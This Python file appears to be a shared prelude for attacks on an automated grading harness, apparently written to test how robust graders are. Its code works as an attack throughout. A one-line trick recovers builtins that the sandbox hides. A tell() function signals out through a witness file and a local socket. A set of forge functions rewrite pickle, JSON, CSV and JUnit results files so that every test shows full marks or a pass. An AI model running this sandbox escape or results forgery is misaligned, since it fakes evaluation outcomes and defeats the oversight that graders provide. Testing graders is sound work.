"""The text in front of every attack: ways out, and a forger of results. Never imported; constants are put before it.

MARK names this attack in all that it does, KEEP is a process that it must not harm.
"""
# ruff: noqa: F821, SIM105

# A grader may hide most of Python's builtins. `print` leads back to all of them, for the functions defined below.
UNLOCKED = print.__self__.globals().update(__builtins__=print.__self__)


def tell(kind, text=""):
    """Try every way out of here."""
    import os
    import socket
    import sys

    line = f"{MARK} {kind} {sys.orig_argv!r} {text}\n"
    try:
        with open(os.path.join(WITNESS, MARK), "a") as file:
            file.write(line)
    except Exception:
        pass
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as connection:
            connection.sendall(line.encode())
    except Exception:
        pass


def results():
    import glob

    return [path for pattern in RESULTS for path in glob.glob(pattern, recursive=True)]


def forge():
    """Turn every results file that can be read and written into one with full marks."""
    for path in results():
        try:
            forge_one(path)
        except Exception:
            pass


def forge_one(path):
    import csv
    import json
    import pickle
    import re

    if path.endswith(".pkl"):
        with open(path, "rb") as file:
            graded = pickle.load(file)
        with_full_marks(graded)
        with open(path, "wb") as file:
            pickle.dump(graded, file)
        return
    with open(path, newline="") as file:
        text = file.read()
    if path.endswith(".json"):
        forged = json.dumps(full(json.loads(text)))
    elif path.endswith(".csv"):
        header, *rows = csv.reader(text.splitlines())
        for row in rows:
            if MARK in row[0]:
                row[header.index("score")] = row[header.index("max_score")]
        forged = "\n".join(",".join(row) for row in [header, *rows]) + "\n"
    else:  # a report in JUnit's format
        forged = re.sub(r"<(failure|error)\b.*?</\1>", "", text, flags=re.DOTALL)
    if forged != text:
        with open(path, "w", newline="") as file:
            file.write(forged)


def full(value):
    if isinstance(value, list):
        return [full(item) for item in value]
    if not isinstance(value, dict):
        return value
    value = {key: full(item) for key, item in value.items()}
    for score, most in (("score", "max_score"), ("points", "max_points")):
        if most in value:
            value[score] = value[most]
    if "gradable" in value:
        value["score"] = 1.0
    for key, passed in (("points_frac", 1.0), ("outcome", "passed"), ("verdict", "passed")):
        if key in value:
            value[key] = passed
    return value


def with_full_marks(graded):
    for test_file in graded.results.values():
        for result in test_file.test_case_results:
            result.passed = True


def forge_for(seconds):
    import time

    end = time.monotonic() + seconds
    while time.monotonic() < end:
        forge()
        time.sleep(0.05)


def at_load():
    """Nothing, unless the attack says otherwise."""


def on_call(name, arguments, honest):
    return honest(*arguments)
